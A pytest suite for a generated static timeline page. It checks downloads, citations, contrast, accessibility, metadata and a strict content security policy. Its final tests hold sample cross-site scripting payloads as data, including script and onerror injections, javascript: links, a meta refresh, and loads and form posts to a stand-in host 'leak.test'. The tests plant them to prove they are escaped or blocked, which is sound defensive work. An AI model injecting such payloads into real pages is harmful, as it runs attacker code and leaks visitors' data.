"""What the page gives away is what is published, and it is safe: it runs its own script, asks for nothing, and believes no cell."""

import base64
import csv
import hashlib
import io
import json
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest
from browsing import Opener, needs_browser, rendered, saved, shown, until
from conftest import EXAMPLE, ROOT, table, third

from scripts.export import read_package
from scripts.show import facts
from scripts.show.docs import readme
from scripts.show.forms import cite, metadata
from scripts.show.picture.svg import WIDE

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SOURCES = {root: (root / "data/timeline.html").read_text("utf-8") for root in (ROOT, EXAMPLE)}
EVENTS = table("events", EXAMPLE)
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture(params=SOURCES, ids=["package", "example"])
def package_root(request: pytest.FixtureRequest) -> Path:
    return request.param


@needs_browser
@pytest.mark.parametrize("name", ["events", pytest.param("attestations", marks=pytest.mark.long)])
def test_what_is_shown_can_be_saved(opened: Opener, name: str) -> None:
    view = opened(EXAMPLE)
    view.select_option("#by-type", EVENTS[0]["event_type"])
    left = shown(view)
    assert 0 < len(left) < len(EVENTS)
    with view.expect_download() as saved:
        view.click(f"[data-rows={name}]")
    rows = list(csv.DictReader(io.StringIO(saved.value.path().read_text("utf-8"), newline="")))
    assert rows == [row for row in table(name, EXAMPLE) if row["event_id"] in left]


@needs_browser
def test_the_picture_can_be_saved(opened: Opener) -> None:
    view = opened(EXAMPLE)
    kind = EVENTS[0]["event_type"]
    for filtered in (False, True):
        if filtered:
            view.select_option("#by-type", kind)
        with view.expect_download() as saved:
            view.click("#svg")
        image = ET.fromstring(saved.value.path().read_bytes())
        said = " ".join("".join(text.itertext()) for text in image.iter(f"{SVG}text"))
        style = "".join(image.find(f"{SVG}style").itertext())
        assert "--paper: #ffffff" in style
        assert "@media" not in style
        count = f"{len(shown(view))} of {len(EVENTS)} events, Kind: {kind}"
        assert (count if filtered else "\u201cEarly this month\u201d was") in said
        assert "Source: " in said
        drawn = [lane.get("data-event") for lane in image.iterfind(f".//{SVG}g[@data-event]")]
        assert sorted(drawn) == sorted(shown(view))
        with view.expect_download() as saved:
            view.click("#png")
        data = saved.value.path().read_bytes()
        assert data.startswith(b"\x89PNG")
        assert int.from_bytes(data[16:20]) == 2 * WIDE.width
        assert saved.value.suggested_filename.endswith("-shown.png")


@needs_browser
@pytest.mark.parametrize("what", ["bibtex", pytest.param("citation", marks=pytest.mark.long)])
def test_citation_is_copied_or_not_said_to_be(opened: Opener, what: str) -> None:
    view = opened(EXAMPLE)
    view.context.grant_permissions(["clipboard-read", "clipboard-write"])
    view.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
    status = f"document.querySelector('[data-copy={what}]').nextElementSibling.textContent"
    view.click(f"[data-copy={what}]")
    until(view, f"{status} === 'Copied.'")
    assert view.evaluate("navigator.clipboard.readText()").replace("\r", "") == view.inner_text(
        f"#{what}"
    )
    view.evaluate(
        "navigator.clipboard.writeText = () => Promise.reject(new Error('no')); document.execCommand = () => false"
    )
    view.click(f"[data-copy={what}]")
    until(view, f"{status}.startsWith('Not copied')")


def test_downloads_are_what_is_published_byte_for_byte() -> None:
    link = r'download="([^"]+)" href="data:[^;]+;charset=utf-8;base64,([^"]+)"'
    found = dict(re.findall(link, SOURCES[ROOT]))
    schema, tables = read_package(ROOT)
    made = facts.as_rows(tables)
    expected = {path.name: path.read_bytes() for path in (ROOT / "data").glob("*.csv")}
    expected |= {f"{schema['name']}.svg": (ROOT / "data/timeline.svg").read_bytes()}
    expected |= {f"{schema['name']}.txt": f"{cite.citation(schema, made)}\n".encode()}
    expected |= {f"{schema['name']}.bib": f"{cite.bibtex(schema, made)}\n".encode()}
    decoded = {name: base64.b64decode(data) for name, data in found.items()}
    assert decoded.pop(f"{schema['name']}.ics").startswith(b"BEGIN:VCALENDAR\r\n")
    assert decoded == expected


class Elements(HTMLParser):
    """The attributes of every element, and the text of scripts and styles."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.inside: dict[str, str] = {}
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        tag, attributes = self.found[-1] if self.found else ("", {})
        if tag in ("script", "style"):
            name = attributes.get("type") or tag
            self.inside[name] = self.inside.get(name, "") + data

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}", {}))

    def metas(self) -> dict[str | None, str]:
        """What the meta elements say, by their property, name or header."""
        metas = [attributes for tag, attributes in self.found if tag == "meta"]
        keys = ("property", "name", "http-equiv")
        return {next(filter(None, map(m.get, keys)), None): m.get("content", "") for m in metas}


def _luminance(colour: str) -> float:
    """Relative luminance, as WCAG 2 defines it."""
    parts = (int(colour[n : n + 2], 16) / 255 for n in (1, 3, 5))
    red, green, blue = (x / 12.92 if x <= 0.04045 else ((x + 0.055) / 1.055) ** 2.4 for x in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_texts_and_links_have_the_contrast_of_level_aaa(scheme: str) -> None:
    style = Elements(SOURCES[EXAMPLE]).inside["style"]
    rule = {
        "dark": r"@media screen and \(prefers-color-scheme: dark\) \{\n  :root \{([^}]*)\}",
        "light": r"^:root \{([^}]*)\}",
    }[scheme]
    blocks = " ".join(re.findall(rule, style, re.MULTILINE))
    colours = dict(re.findall(r"--([\w-]+): (#\w{6})", blocks))
    for ink in ("ink", "soft", "link", "article", "quote", "known"):
        for paper in ("paper", "tint"):
            pair = sorted(_luminance(colours[name]) + 0.05 for name in (ink, paper))
            assert pair[1] / pair[0] >= 7, (scheme, ink, paper)


@pytest.mark.parametrize(
    ("home", "site"),
    third(
        [
            ("https://github.com/Harbour/Treaty.data", "https://harbour.github.io/Treaty.data/"),
            ("https://github.com/harbour/treaty.git", "https://harbour.github.io/treaty/"),
            ("https://harbour.example/treaty", "https://harbour.example/treaty/"),
        ]
    ),
)
def test_a_homepage_gives_the_page_an_address_and_an_image(home: str, site: str) -> None:
    schema, tables = read_package(EXAMPLE)
    source = rendered(tables, homepage=home).decode()
    metas = Elements(source).metas()
    assert (metas["og:url"], metas["og:image"]) == (site, f"{site}timeline.png")
    assert f'<link rel="canonical" href="{site}">' in source
    assert f'href="{home}"' in source
    block = readme.BLOCKS["picture"](schema | {"homepage": home}, facts.as_rows(tables))
    assert block.startswith(f'<a href="{site}"><picture>')


def test_without_a_homepage_there_is_no_image_and_without_figures_no_heading() -> None:
    assert "og:image" not in SOURCES[EXAMPLE]
    assert 'id="figures"' in SOURCES[EXAMPLE]
    made = rendered(read_package(EXAMPLE)[1] | {"figures": []}).decode()
    assert 'id="figures"' not in made
    assert 'href="#figures"' not in made


def test_names_that_are_heard_contain_the_words_that_are_seen(package_root: Path) -> None:
    """Level A of WCAG, 2.5.3: whoever speaks to the browser says what is on the screen."""
    labelled = re.findall(
        r'<(a|button|input|select)\b[^>]*aria-label="([^"]*)"[^>]*>([^<]*)<', SOURCES[package_root]
    )
    assert labelled
    for _, name, seen in labelled:
        assert seen.strip() in name
    lanes = re.findall(
        r'<a href="#event-[^"]*" aria-label="([^"]*)">(<text.*?)</a>', SOURCES[package_root]
    )
    assert len(lanes) == 2 * len(table("events", package_root))
    for name, lines in lanes:
        assert " ".join(re.findall(r">([^<]+)</text>", lines)) == name


def test_article_and_home_are_named_at_the_top(package_root: Path) -> None:
    schema, tables = read_package(package_root)
    head = SOURCES[package_root].split('id="events"')[0].split("<header>")[1]
    for source in facts.articles(tables):
        assert source["publisher"] in unescape(head)
        assert not source["url"] or source["url"] in re.findall(r'href="([^"]*)"', unescape(head))
    assert not schema.get("homepage") or f'href="{schema["homepage"]}"' in head


def test_those_who_share_it_get_a_title_and_a_description(package_root: Path) -> None:
    schema, _ = read_package(package_root)
    named = Elements(SOURCES[package_root]).metas()
    assert named["og:title"] == schema["title"]
    assert named["description"] == schema["description"]
    assert len(named["og:description"]) > 30


def test_jsonld_names_period_places_and_every_article(package_root: Path) -> None:
    root = package_root
    thing = json.loads(Elements(SOURCES[package_root]).inside["application/ld+json"])
    assert thing == json.loads((root / "data/timeline.jsonld").read_text("utf-8"))
    events = table("events", root)
    best = [(row["best_earliest"], row["best_latest"]) for row in events if row["best_edtf"]]
    if best and all(day for bounds in best for day in bounds):
        assert thing["temporalCoverage"] == f"{min(best)[0]}/{max(day for _, day in best)}"
    used = {row[column] for row in events for column in ("place_id", "article_id")}
    places = [row["name"] for row in table("places", root) if row["place_id"] in used]
    assert [place["name"] for place in thing.get("spatialCoverage", [])] == places
    urls = {row["url"] for row in table("sources", root) if row["source_id"] in used} - {""}
    articles = {row["article_id"] for row in events}
    assert {article["url"] for article in thing["isBasedOn"] if "url" in article} == urls
    assert len(thing["isBasedOn"]) == len(articles)


AFTER, BEFORE, DAY = "[2022-11-17..]", "[..2022-11-18]", "2022-11-17"
BOUNDS = {
    "": ("", ""),
    AFTER: ("2022-11-17", ""),
    BEFORE: ("", "2022-11-18"),
    DAY: (DAY, DAY),
    "2020-XX-XX": ("2020-01-01", "2020-12-31"),
    "2023-XX-XX": ("2023-01-01", "2023-12-31"),
}


@pytest.mark.parametrize(
    ("dates", "period"),  # of each event: as its article dates it, and as it is best known
    [
        ([(AFTER, AFTER)], "2022-11-17/.."),
        ([(BEFORE, BEFORE)], "../2022-11-18"),
        ([(DAY, DAY)], "2022-11-17/2022-11-17"),
        ([(DAY, DAY), (AFTER, AFTER), ("2020-XX-XX", "2020-XX-XX")], "2020-01-01/.."),
        ([(AFTER, DAY)], "2022-11-17/2022-11-17"),
        ([("2023-XX-XX", DAY), ("2020-XX-XX", "")], "2020-01-01/2022-11-17"),
        ([(DAY, DAY), ("", "")], "2022-11-17/2022-11-17"),
        ([(AFTER, ""), (BEFORE, "")], None),
        ([("", "")], None),
    ],
)
def test_jsonld_leaves_an_open_end_open(dates: list[tuple[str, str]], period: str | None) -> None:
    schema, tables = read_package(EXAMPLE)
    events = []
    for row, pair in zip(tables["events"], dates, strict=False):
        for which, value in zip(("date", "best"), pair, strict=True):
            first, last = BOUNDS[value]
            row |= {f"{which}_edtf": value, f"{which}_earliest": first, f"{which}_latest": last}
        events.append(row)
    files = {resource["path"]: b"" for resource in schema["resources"]}
    thing = json.loads(metadata.jsonld(schema, tables | {"events": events}, files))
    assert thing.get("temporalCoverage") == period


def test_policy_allows_this_script_and_this_style_and_nothing_else(package_root: Path) -> None:
    elements = Elements(SOURCES[package_root])
    policy = elements.metas()["Content-Security-Policy"]
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert {rules[name] for name in ("default-src", "base-uri", "form-action")} == {"'none'"}
    for name in ("script", "style"):
        digest = base64.b64encode(hashlib.sha256(elements.inside[name].encode()).digest()).decode()
        assert rules[f"{name}-src"] == f"'sha256-{digest}'"
    assert "unsafe" not in policy


PLANTED = (  # what could get into the page if a text were not escaped; a meta refresh is beyond any policy
    "<script>window.ran = 1</script>", "<script type=module>window.ran = 1</script>", "<script src='data:text/javascript,window.ran=1'></script>",
    "<img src=x onerror='window.ran = 1'>", "<svg onload='window.ran = 1'></svg>", "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<script src='http://leak.test/a.js'></script>", "<img src='http://leak.test/a.png'>", "<object data='http://leak.test/a'></object>",
    "<style>@import 'http://leak.test/a.css'; body { background: url(http://leak.test/b.png) }</style>", "<base href='http://leak.test/'><img src=c>",
    "<a class=planted href='javascript:window.ran=1'>x</a>", "<form action='http://leak.test/f'><button class=planted>x</button></form>",
)  # fmt: skip


@needs_browser
def test_policy_stops_what_is_planted_in_the_page(chromium: "Browser", tmp_path: Path) -> None:
    path, asked = tmp_path / "timeline.html", []
    source = SOURCES[EXAMPLE]
    assert source.count("</main>") == 1
    path.write_text(source.replace("</main>", "".join(PLANTED) + "</main>"), "utf-8")
    page = chromium.new_page()
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(path.as_uri())
    for planted in page.query_selector_all(".planted"):
        planted.evaluate("thing => thing.click()")
    assert page.evaluate("window.ran") is None
    assert page.url == path.as_uri()
    assert asked == [path.as_uri()]
    page.close()


def test_page_names_nothing_to_load_and_no_handler(package_root: Path) -> None:
    source = SOURCES[package_root]
    for tag, attributes in Elements(source).found:
        assert "style" not in attributes, tag
        assert not [name for name in attributes if name.startswith("on")], tag
        link, rel = attributes.get("href"), attributes.get("rel") or ""
        loaded = attributes.get("src", None if tag == "a" else link) or "data:"
        assert loaded.startswith("data:") or rel == "canonical", (tag, loaded)
        if link and tag == "a":
            assert re.match(r"#|https?://|data:(text|image)/", link), link
            assert link[0] == "#" or "download" in attributes or "noreferrer" in rel, link
    assert "@import" not in source
    assert not re.search(r"url\(", source)


def test_ids_are_unique_and_every_inner_link_leads_somewhere(package_root: Path) -> None:
    elements = Elements(SOURCES[package_root])
    ids = [attributes["id"] for _, attributes in elements.found if "id" in attributes]
    assert len(ids) == len(set(ids))
    for tag, attributes in elements.found:
        if tag == "a" and (attributes.get("href") or "").startswith("#"):
            assert attributes["href"][1:] in ids
        for name in ("aria-labelledby", "aria-describedby"):
            assert set((attributes.get(name) or "").split()) <= set(ids)


TEXTS = "title note description date_verbatim publisher origin name value_verbatim".split()
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>{{ 7*7 }}</script>&amp;<meta http-equiv=refresh content='0;url=http://leak.test/'>"


def hostile() -> tuple[bytes, list[str]]:
    """A page of which every text is hostile, and the ids of its events, some of them as in the page."""
    tables = read_package(EXAMPLE)[1]
    taken = iter(["show", "words", "find", "in", "out", "all", "events", "cite", "count"])
    renamed = {row["event_id"]: next(taken, row["event_id"]) for row in tables["events"]}
    for name, rows in tables.items():
        for row in rows:
            for column in row:
                if column.endswith("event_id"):
                    row[column] = renamed.get(row[column], row[column])
                elif column in TEXTS:
                    row[column] = HOSTILE
                elif column == "url":
                    row[column] = "javascript:alert(1)"
        assert rows, name
    cited, home = (HOSTILE, HOSTILE), "javascript:alert(1)"
    return rendered(tables, cited=cited, title=HOSTILE, homepage=home), [*renamed.values()]


def test_no_text_of_a_table_becomes_markup_and_no_id_collides() -> None:
    source = hostile()[0].decode()
    elements = Elements(source)
    ids = [attributes["id"] for _, attributes in elements.found if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert "javascript:" not in re.sub(r">[^<]*<", "><", source)
    of_example = [tag for tag, _ in Elements(SOURCES[EXAMPLE]).found]
    tags = [tag for tag, _ in elements.found]
    assert "img" not in tags
    assert tags.count("script") == of_example.count("script")
    assert "refresh" not in elements.metas()


@needs_browser
def test_no_text_of_a_table_is_run_or_loaded(opened: Opener, tmp_path: Path) -> None:
    made, ids = hostile()
    view = opened(
        saved(tmp_path, made)
    )  # which fails where anything was run, asked for, or reported
    assert view.locator("img, [http-equiv=refresh]").count() == 0
    assert shown(view) == ids
    assert view.locator("h1").inner_text() == HOSTILE
    view.click("#in")
    assert view.locator("#find").is_visible()
